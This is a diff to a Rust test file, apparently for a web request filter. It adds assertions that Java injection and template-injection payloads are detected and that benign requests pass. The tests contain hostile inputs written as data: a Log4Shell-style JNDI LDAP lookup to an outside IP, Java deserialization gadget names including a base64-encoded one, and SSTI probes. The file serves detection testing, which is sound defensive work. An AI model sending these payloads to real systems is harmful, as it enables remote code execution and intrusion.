@@ -240,6 +240,13 @@ fn other_injections() {
         query("x=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D"),
         "java_injection",
     );
+    assert_attack(form("obj=java.lang.ProcessBuilder"), "java_injection");
+    assert_attack(form("java.io.ObjectInputStream=1"), "java_injection"); // in the name
+    // `invokertransformer` base64-encoded inside a longer value, at an odd alignment.
+    assert_attack(
+        form("data=QUFBaW52b2tlcnRyYW5zZm9ybWVyQkJC"),
+        "java_injection",
+    );
     assert_attack(query("name=%7B%7B7*7%7D%7D"), "ssti");
     assert_attack(query("name=%7B%7B''.__class__.__mro__%7D%7D"), "ssti");
     assert_attack(
@@ -301,6 +308,9 @@ fn ordinary_requests_pass() {
     ));
     assert_clean(form(
         "email=jane%40example.com&message=Hello%21+Can+you+call+me+at+555-0100%3F",
+    ));
+    assert_clean(json(
+        r#"{"user.name": "Alice", "settings.theme": "dark", "note": "I love java.and coffee"}"#,
     ));
     assert_clean(query(
         "url=https://www.example.org/page&callback=https://203.0.113.5/hook",
